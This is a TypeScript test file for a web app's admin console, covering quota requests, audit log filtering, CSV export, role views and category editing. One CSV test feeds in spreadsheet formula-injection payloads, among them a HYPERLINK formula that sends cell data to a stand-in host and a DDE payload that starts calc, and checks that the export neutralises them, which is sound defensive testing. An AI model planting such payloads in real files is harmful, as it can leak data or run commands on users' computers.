import assert from 'node:assert/strict';
import { join } from 'node:path';
import { describe, test } from 'node:test';
import { ACCOUNTS_FILE, openDatabase } from '../../../src/store/sqlite/database.ts';
import { textsOf } from '../../messages/catalogues.ts';
import { mailsTo } from '../../support/mails.ts';
import { smallShop } from '../../support/small-shop.ts';
import { suiteApp } from '../../support/suite-app.ts';
import { createTestApp, type TestApp } from '../../support/test-app.ts';
import { type Browser, faultOf, partOf, signedIn, suiteBrowser, textOf } from '../site-kit.ts';

const CONSOLE = '/portal/console';

describe('requests for more calls', () => {
  const app = suiteApp();
  const support = suiteBrowser(app, 'support');
  const PAGE = `${CONSOLE}/quota-requests`;
  const asked = async () => {
    const person = await signedIn(app);
    await app.quotaRequests.add(person.accountId, 2_000_000, 'A campaign <b>');
    const [request] = await app.quotaRequests.list(person.accountId);
    return { person, at: String(request?.requestId) };
  };
  const statesOf = (...people: readonly Browser[]) =>
    Promise.all(people.map(async ({ accountId }) => (await app.quotaRequests.list(accountId))[0]?.status));

  test('an approved one sets the limits, tells the account, and can be decided only once', async () => {
    const { person, at } = await asked();
    const html = await support.page(PAGE);
    const values = { dailyQuota: 1_500_000, burst: 3, note: 'Welcome' };
    assert.equal((await support.submitIn(html, PAGE, 'approve', values, at)).status, 200);
    const account = await app.accounts.findAccount(person.accountId);
    assert.deepEqual([account?.override.dailyQuota, account?.override.burst], [1_500_000, 3]);
    assert.match((await mailsTo(app, person.email)).join(), /1,500,000[\s\S]*Welcome/);
    const again = await support.submitIn(html, PAGE, 'deny', { note: 'No' }, at);
    assert.deepEqual([again.status, await statesOf(person)], [409, ['approved']]);
    assert.ok((partOf(await support.page(`${PAGE}?state=decided`), 'decided') ?? '').includes(person.email));
  });

  test('a denied one needs words; the fault stands at the field of this request alone', async () => {
    const [one, other] = [await asked(), await asked()];
    assert.equal(faultOf(await support.submit(PAGE, 'deny', { note: '' }, one.at)), '400 note');
    assert.equal((await support.submit(PAGE, 'deny', { note: 'No' }, one.at)).status, 200);
    assert.deepEqual(await statesOf(one.person, other.person), ['denied', 'waiting']);
  });

  test("a request can't be decided as that of another account", async () => {
    const owner = await signedIn(app, 'owner');
    await app.quotaRequests.add(owner.accountId, 2_000_000, 'Mine');
    const [request] = await app.quotaRequests.list(owner.accountId);
    const { at, person } = await asked();
    const values = { requestId: request?.requestId ?? 0, note: 'No' };
    assert.equal((await support.submit(PAGE, 'deny', values, at)).status, 409);
    assert.deepEqual(await statesOf(owner, person), ['waiting', 'waiting']);
  });
});

describe('the audit log', () => {
  const app = suiteApp();

  test('is marked among the pages of the console', async () => {
    const html = await (await signedIn(app, 'owner')).page(`${CONSOLE}/audit`);
    const marked = Array.from(html.matchAll(/href="([^"]*)" aria-current="page"/g), ([, to]) => to);
    assert.deepEqual(marked, [CONSOLE, `${CONSOLE}/audit`]);
  });

  test('lines are narrowed down by who, what, account and day; older ones follow', async () => {
    const owner = await signedIn(app, 'owner');
    const person = await signedIn(app);
    const actor = `account:${owner.accountId}`;
    writeLines(app, Array(55).fill([actor, 'feed.imported', 'feed']));
    const linesOf = async (query: string) => {
      const html = await owner.page(`${CONSOLE}/audit?${query}`);
      return { html, lines: (partOf(html, 'audit')?.match(/<time/g) ?? []).length };
    };
    assert.equal((await linesOf(`account=${person.email}`)).lines, 1);
    assert.equal((await linesOf(`account=${person.accountId}&from=2026-11-21&until=2026-11-21`)).lines, 1);
    assert.equal((await linesOf('until=2026-11-20')).lines, 0);
    const first = await linesOf(`actor=account:${owner.accountId}&action=feed.imported`);
    assert.equal(first.lines, 50);
    const older = /older=([\w-]+)/.exec(first.html)?.[1];
    assert.equal((await linesOf(`action=feed.imported&older=${older}`)).lines, 5);
  });

  test('the file holds the same lines, and no cell that a spreadsheet program would run', async () => {
    const owner = await signedIn(app, 'owner');
    const link = '=HYPERLINK("http://evil.test/?"&A2,"open")';
    const reasons = [link, "+1+cmd|' /C calc'!A0", '@SUM(1)', '-1', '\t=1'];
    for (const [at, reason] of reasons.entries())
      await app.itemOverrides.decide(new Map([[1001, { withheld: at % 2 === 0 }]]), { by: 'system', reason });
    writeLines(app, [
      ['=1+1', '@action', '-target'],
      ['+x', '@action', '-target'],
    ]);
    const file = await owner.get(`${CONSOLE}/audit.csv`);
    assert.match(String(file.headers['content-disposition']), /audit_2026-11-21\.csv/);
    const cells = file.text.split(/[,\r\n]+/).map((cell) => cell.replace(/^"/, ''));
    for (const cell of ["'=1+1", "'@action", "'@SUM(1)"]) assert.ok(cells.includes(cell), cell);
    assert.ok(!cells.some((cell) => /^\s*[=+@-]/.test(cell)), file.text);
  });
});

/** Adds lines to the audit log that no change of ours would write. */
function writeLines(
  app: TestApp,
  lines: readonly (readonly [actor: string, action: string, target: string])[],
) {
  using db = openDatabase(join(app.config.dataDir, ACCOUNTS_FILE), { busyTimeoutMs: 1000 });
  const insert = db.prepare(
    `INSERT INTO audit (at_ms, actor, action, target, detail) VALUES (?, ?, ?, ?, '{"a":1}')`,
  );
  for (const line of lines) insert.run(app.clock.nowMs(), ...line);
}

describe('the overview', () => {
  const app = suiteApp();

  test('shows what a role may see', async () => {
    for (const [role, shown, hidden] of [
      ['support', 'quota-requests', 'shop'],
      ['shop', 'shop', 'quota-requests'],
    ] as const) {
      const html = await (await signedIn(app, role)).page(CONSOLE);
      assert.ok(html.includes(`${CONSOLE}/${shown}"`) && !html.includes(`${CONSOLE}/${hidden}"`), role);
    }
  });

  test('asks for a decision about lists of single copies while orders tell sex or age, and nobody has made it', async (t) => {
    const isSale = (line: object) => 'soldAt' in line;
    const told = smallShop.filter(isSale);
    const untold = told.map((sale) => ({ ...sale, sex: null, age: null }));
    for (const [sales, value, isAsked] of [
      [told, undefined, true],
      [told, '1', false],
      [untold, undefined, false],
    ] as const) {
      const environment = value === undefined ? {} : { SEOGA_MIN_SEGMENT_COPIES: value };
      const one = await createTestApp(t, { environment });
      await one.feed([...smallShop.filter((line) => !isSale(line)), ...sales]);
      const html = await (await signedIn(one, 'shop')).page(CONSOLE);
      assert.equal(html.includes('SEOGA_MIN_SEGMENT_COPIES=3'), isAsked);
    }
  });

  test('a category is made in the console, once, and its place is in the tree', async () => {
    const shop = await signedIn(app, 'shop');
    const PAGE = `${CONSOLE}/categories`;
    const category = { categoryId: '001009', categoryName: '시 & 희곡', parentId: '001' };
    const made = await shop.submit(PAGE, 'add', category);
    assert.equal(made.status, 200);
    assert.ok(textOf(partOf(made.text, 'categories') ?? '').includes('국내도서 > 시 & 희곡'));
    assert.equal((await app.importLog.list(1))[0]?.actor, `account:${shop.accountId}`);
  });

  test('a category is renamed at once, moved after its ID is typed, and never below itself', async () => {
    const shop = await signedIn(app, 'shop');
    const page = `${CONSOLE}/categories?category=001001`;
    const find = async () =>
      (await app.catalog.listCategories()).find(({ categoryId }) => categoryId === '001001');
    const change = (values: object) => shop.submit(page, 'change', { ...values });
    assert.equal((await change({ categoryName: '이야기' })).status, 200);
    assert.equal((await find())?.fullPath, '국내도서 > 이야기');
    assert.equal(faultOf(await change({ parentId: '001001001' })), '400 parentId');
    const asked = await change({ parentId: '003' });
    assert.equal(asked.status, 409);
    assert.equal((await find())?.parentId, '001');
    const moved = await shop.submitIn(asked.text, page, 'change', { confirmation: '001001' });
    assert.equal(moved.status, 200);
    assert.equal((await find())?.fullPath, 'eBook > 이야기');
  });
});

test('the overview shows what the last check found out of order, and nothing of mail without a mail server', async (t) => {
  const app = await createTestApp(t);
  const figures = { diskFreeBytes: 1, dataBytes: 1, talliedAtMs: null, oldestMailMs: null, backupAtMs: null };
  const health = { calls: null, lists: null, search: 'broken', age: null, mail: null, clock: null };
  app.metrics.setHealth(health, figures);
  const html = await (await signedIn(app, 'owner')).page(CONSOLE);
  const texts = textsOf('en');
  const isShown = (id: string) => html.includes(texts.get(id) ?? '?');
  const ids = [...Object.keys(health).map((name) => `status.troubles.${name}`), 'overview.mailFailed'];
  assert.deepEqual([isShown('overview.backup'), ids.filter(isShown)], [true, ['status.troubles.search']]);
});
